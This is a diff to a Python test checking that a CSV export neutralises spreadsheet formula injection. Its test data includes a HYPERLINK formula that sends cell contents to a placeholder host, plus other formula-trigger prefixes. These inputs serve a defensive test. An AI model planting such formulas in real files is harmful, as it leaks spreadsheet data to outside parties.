@@ -213,7 +213,8 @@ def test_csv_export_neutralises_spreadsheet_formulas(tmp_path):
     names = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
              "\tTab", "\rCR", "Ann Lee"]
     rows = [{"trainee": n, "skill_group": "", "scenario": "s", "started_utc": "",
-             "run_id": f"r{k}", "passed": True, "score": 80.0, "pass_score": 70.0,
+             "run_id": f"r{k}", "status": "completed", "passed": True, "score": 80.0,
+             "pass_score": 70.0,
              "hard_fails": 0, "verified": True, "seed": 1, "report_path": "",
              "log_path": "", "metrics": {"signed_mm": -1.5}} for k, n in enumerate(names)]
     with open(write_csv(rows, tmp_path / "s.csv"), newline="", encoding="utf-8") as f:
